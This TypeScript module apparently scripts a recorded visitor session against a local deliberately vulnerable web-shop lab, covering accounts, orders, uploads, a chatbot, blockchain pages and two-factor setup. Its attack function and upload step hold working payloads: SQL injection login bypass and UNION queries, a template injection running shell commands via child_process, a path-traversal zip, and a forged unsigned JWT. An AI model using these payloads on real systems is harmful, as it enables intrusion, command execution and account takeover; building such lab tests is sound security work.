import { createGuardrails, generateSync } from 'otplib'
import { knownContracts } from '../../lab/outside/chain/genesis.js'
import type { Reply } from '../../lab/proofs/attacker/client.js'
import { formWithFile, tinyPng } from '../../lab/proofs/attacker/document-visitor.js'
import { forgeUnsigned } from '../../lab/proofs/attacker/forge-token.js'
import { makeZip } from '../../lab/proofs/attacker/make-zip.js'
import { couponData } from './buy.js'
import type { ServedLab } from './serve-lab.js'
import type { SettableClock } from './settable-clock.js'

/** A lab, its clock, and all its responses so far. */
export interface Visited {
  readonly shop: ServedLab
  readonly clock: SettableClock
  readonly told: Told[]
}

/** The part of a response that the lab decides: without headers of Node's HTTP layer, and without the port. */
export interface Told {
  readonly request: string
  readonly status: number
  readonly headers: Readonly<Record<string, string>>
  readonly body: string
}

type Send = (method: string, path: string, body?: unknown) => Promise<Reply>

/** Fields of responses that later requests need. */
interface Json {
  readonly data: { readonly id: number }
  readonly captchaId: number
  readonly answer: string
  readonly token: string
  readonly key: string
  readonly address: string
  readonly secret: string
  readonly setupToken: string
  readonly orderConfirmation: string
}

/** Headers that Node's HTTP layer adds. */
const ofTransport = new Set(['date', 'connection', 'keep-alive', 'transfer-encoding'])

/** Creates a function that sends requests with these headers, one second apart, and records the responses. */
export function sender({ shop, clock, told }: Visited, headers: Readonly<Record<string, string>> = {}): Send {
  return async (method, path, body) => {
    clock.advance(1000)
    const sent = body === undefined ? undefined : await write(body)
    const response = await fetch(shop.url + path, {
      method,
      redirect: 'manual',
      headers: { Accept: '*/*', ...headers, ...(sent && { 'Content-Type': sent.type }) },
      ...(sent && { body: sent.bytes }),
    })
    const text = await response.text()
    const port = new RegExp(`(?<=(localhost|127\\.0\\.0\\.1)):${shop.server.port}`, 'g')
    const kept = [...response.headers].filter(([name]) => !ofTransport.has(name))
    told.push({
      request: `${method} ${path}`,
      status: response.status,
      headers: Object.fromEntries(kept.map(([name, value]) => [name, value.replaceAll(port, '')])),
      body: text.replaceAll(port, ''),
    })
    return { status: response.status, headers: response.headers, text, json: () => JSON.parse(text) }
  }
}

/** A body as bytes; the random boundary of a form is replaced by a fixed one. */
async function write(body: unknown): Promise<{ type: string; bytes: Uint8Array<ArrayBuffer> }> {
  const isForm = body instanceof FormData || body instanceof URLSearchParams
  if (!isForm) return { type: 'application/json', bytes: new TextEncoder().encode(JSON.stringify(body)) }
  const form = new Response(body)
  const type = form.headers.get('Content-Type') ?? ''
  const boundary = /boundary=(.*)$/.exec(type)?.[1] ?? type
  const text = Buffer.from(await form.arrayBuffer()).toString('latin1')
  return {
    type: type.replace(`boundary=${boundary}`, 'boundary=juice'),
    bytes: Uint8Array.from(Buffer.from(text.replaceAll(boundary, 'juice'), 'latin1')),
  }
}

const email = 'pia@juice.example'
const password = 'plums-and-pears'

/** The first half: a visitor registers, shops, files a complaint, chats, and uses the blockchain pages. */
export async function spendMorning(visited: Visited): Promise<void> {
  const visit = sender(visited)
  for (const path of [
    '/',
    '/search?q=apple',
    '/rest/products/search?q=juice',
    '/api/Products/1',
    '/ftp',
    '/ftp/legal.md',
  ])
    await visit('GET', path)
  const answer = { id: 1, question: '', createdAt: '', updatedAt: '' }
  const account = { email, password, passwordRepeat: password, securityQuestion: answer, securityAnswer: 'plum' }
  const { data } = (await visit('POST', '/api/Users/', account)).json<{ data: { id: number } }>()
  await visit('POST', '/api/SecurityAnswers/', { UserId: data.id, answer: 'plum', SecurityQuestionId: 1 })
  const { send, bid } = await logIn(visited)
  await shopAround(visited, send, bid)
  await writeToShop(visited, send)
  await chat(visited, send)
  await playOnChain(visited)
  await signInElsewhere(visited)
}

/** Signs in at another site, which redirects back with a token. */
async function signInElsewhere(visited: Visited): Promise<void> {
  const visit = sender(visited)
  const { clientId, authorizedRedirects } = visited.shop.lab.config.application.googleOauth
  const redirect_uri = authorizedRedirects[0]?.uri ?? ''
  const query = new URLSearchParams({ client_id: clientId, redirect_uri, response_type: 'token', scope: 'email' })
  const { headers } = await visit(
    'POST',
    `/outside/sign-in?${query}`,
    new URLSearchParams({ email: 'ada@example.org' }),
  )
  const token = /access_token=([\w-]+)/.exec(headers.get('location') ?? '')?.[1] ?? ''
  await visit('GET', `/outside/userinfo?access_token=${token}`)
}

/** The second half, which can follow a restart: more orders, a second factor, and attacks. */
export async function spendEvening(visited: Visited): Promise<void> {
  const { send, bid } = await logIn(visited)
  await order(send, bid, {})
  await order(send, bid, {})
  await send('POST', '/rest/deluxe-membership', { paymentMode: 'wallet' })
  await protect(visited, send)
  await attack(visited, send)
  await exportData(send)
  await send('GET', '/rest/order-history')
  await send('GET', '/ftp')
  await send('GET', '/api/Challenges/?solved=true')
  for (const attempt of [1, 2, 3])
    await send('POST', '/rest/user/reset-password', { email, answer: `plum ${attempt}`, new: 'x', repeat: 'x' })
}

async function logIn(visited: Visited): Promise<{ send: Send; bid: number }> {
  const reply = await sender(visited)('POST', '/rest/user/login', { email, password })
  const { token, bid } = reply.json<{ authentication: { token: string; bid: number } }>().authentication
  const send = sender(visited, { Authorization: `Bearer ${token}`, Cookie: `token=${token}` })
  await send('GET', '/rest/user/whoami')
  return { send, bid }
}

async function shopAround({ shop }: Visited, send: Send, bid: number): Promise<void> {
  const address = {
    ...{ fullName: 'Pia Press', mobileNum: 1234567890, zipCode: '12345', streetAddress: '1 Orchard Lane' },
    ...{ city: 'Juiceville', state: 'Plum', country: 'Fruitland' },
  }
  const card = { fullName: 'Pia Press', cardNum: 4111111111111234, expMonth: 12, expYear: 2090 }
  const addressId = String((await send('POST', '/api/Addresss/', address)).json<Json>().data.id)
  const paymentId = String((await send('POST', '/api/Cards/', card)).json<Json>().data.id)
  await send('PUT', '/rest/wallet/balance', { balance: 500, paymentId })
  await send('GET', '/api/Deliverys')
  const coupon = shop.lab.shop.coupons.issue(20) ?? ''
  await send('PUT', `/rest/basket/${bid}/coupon/${encodeURIComponent(coupon)}`)
  await order(send, bid, { addressId, paymentId, deliveryMethodId: '1' })
  await send('POST', '/api/Recycles/', { quantity: 200, AddressId: addressId, isPickup: true, date: '2027-01-01' })
}

async function order(send: Send, bid: number, orderDetails: object): Promise<void> {
  for (const [ProductId, quantity] of [
    [1, 2],
    [6, 1],
  ])
    await send('POST', '/api/BasketItems/', { ProductId, BasketId: String(bid), quantity })
  await send('GET', `/rest/basket/${bid}`)
  const data = { couponData: couponData('null'), orderDetails }
  const { orderConfirmation } = (await send('POST', `/rest/basket/${bid}/checkout`, data)).json<Json>()
  await send('GET', `/ftp/order_${orderConfirmation}.pdf`)
  await send('GET', `/rest/track-order/${orderConfirmation}`)
}

async function writeToShop(visited: Visited, send: Send): Promise<void> {
  for (const comment of ['Lovely', '<b>Sour</b>']) {
    const { captchaId, answer } = (await send('GET', '/rest/captcha/')).json<Json>()
    await send('POST', '/api/Feedbacks/', { comment, rating: 4, captchaId, captcha: answer, UserId: 1 })
  }
  await send('PUT', '/rest/products/1/reviews', { message: 'Pressed well', author: email })
  await send('POST', '/api/Complaints/', { message: 'Too little pulp' })
  const zip = makeZip([
    { name: '../../ftp/mine.md', content: 'mine' },
    { name: 'pulp.txt', content: 'too little' },
  ])
  await send('POST', '/file-upload', formWithFile('file', 'complaint.zip', zip))
  await send('POST', '/file-upload', formWithFile('file', 'order.xml', '<order><juice>plum</juice></order>'))
  const photo = formWithFile('image', 'picnic.png', tinyPng, 'image/png')
  photo.append('caption', 'Sun!')
  await send('POST', '/rest/memories', photo)
  await send('GET', '/rest/memories')
  await send('POST', '/profile/image/file', formWithFile('file', 'me.png', tinyPng, 'image/png'))
  await sender(visited)('GET', '/ftp/mine.md')
}

async function chat(visited: Visited, send: Send): Promise<void> {
  const { token } = (await send('POST', '/rest/chatbot/respond', { action: 'setname', query: 'Pia' })).json<Json>()
  const named = sender(visited, { Authorization: `Bearer ${token}` })
  for (const query of ['hello', 'give me a discount code', 'hello', 'give me a discount code', 'tell me a joke'])
    await named('POST', '/rest/chatbot/respond', { action: 'query', query })
  for (const content of ['Hello', 'Where is my order?', 'May I have a coupon?'])
    await named('POST', '/rest/chat', { messages: [{ role: 'user', content }] })
}

async function playOnChain(visited: Visited): Promise<void> {
  const visit = sender(visited)
  await visit('GET', '/rest/web3/nftMintListen')
  const { key, address } = (await visit('POST', '/outside/chain/wallet', {})).json<Json>()
  const call = { key, to: knownContracts.BeeFaucet, method: 'withdraw', values: [255] }
  for (let round = 0; round < 4; round += 1) await visit('POST', '/outside/chain/send', call)
  const source = 'contract Mine { uint public made; constructor() { made = block.timestamp; } }'
  const deployed = await visit('POST', '/outside/chain/deploy', { key, source, contract: 'Mine', values: [] })
  await visit('POST', '/outside/chain/ask', { to: deployed.json<Json>().address, method: 'made', values: [] })
  await visit('POST', '/rest/web3/walletExploitAddress', { walletAddress: address })
  await visit('POST', '/rest/web3/walletNFTVerify', { walletAddress: address })
  await visit('POST', '/rest/web3/submitKey', { privateKey: key })
}

async function protect({ clock }: Visited, send: Send): Promise<void> {
  const { secret, setupToken } = (await send('GET', '/rest/2fa/status')).json<Json>()
  const epoch = Math.floor(clock.now() / 1000)
  const initialToken = generateSync({ secret, epoch, guardrails: createGuardrails({ MIN_SECRET_BYTES: 1 }) })
  await send('POST', '/rest/2fa/setup', { password, setupToken, initialToken })
  await send('POST', '/rest/2fa/disable', { password })
}

async function exportData(send: Send): Promise<void> {
  const { answer } = (await send('GET', '/rest/image-captcha/')).json<Json>()
  await send('GET', '/rest/image-captcha/')
  await send('POST', '/rest/user/data-export', { format: '1', answer })
  const newest = (await send('GET', '/rest/image-captcha/')).json<Json>().answer
  await send('POST', '/rest/user/data-export', { format: '1', answer: newest })
}

/** Runs attackers' scripts and statements, which also get their time and random values from the lab. */
async function attack(visited: Visited, send: Send): Promise<void> {
  const visit = sender(visited)
  await visit('POST', '/rest/user/login', { email: "' or 1=1--", password: 'x' })
  await visit('GET', '/ftp/acquisitions.md')
  await visit('GET', '/rest/qwertz')
  const columns = "random(),datetime('now'),hex(randomblob(4)),4,5,6,7,8,9"
  await visit('GET', `/rest/products/search?q=${encodeURIComponent(`qwert')) UNION SELECT ${columns}--`)}`)
  await visit('GET', `/rest/products/${encodeURIComponent('1; sleep(50)')}/reviews`)
  for (const script of ['#{[Math.random(), Math.random(), Date.now(), new Date()]}', writeAndList]) {
    await send('POST', '/profile', new URLSearchParams({ username: script }))
    await send('GET', '/profile')
  }
  await send('POST', '/b2b/v2/orders', { cid: 'JS0815DE', orderLinesData: '[{"productId":8}]' })
  await send('GET', '/rest/user/authentication-details/')
  const token = forgeUnsigned({ data: { email: 'jwtn3d@juice-sh.op' } })
  const forged = sender(visited, { Authorization: `Bearer ${token}`, Cookie: `token=${token}` })
  await forged('GET', '/rest/user/whoami')
  await send('DELETE', '/api/Feedbacks/2')
  await send('PUT', '/api/Users/1', {})
}

const writeAndList =
  "#{global.process.mainModule.require('child_process').execSync('echo mine > /tmp/mine; date; ls -l /tmp ftp').toString()}"
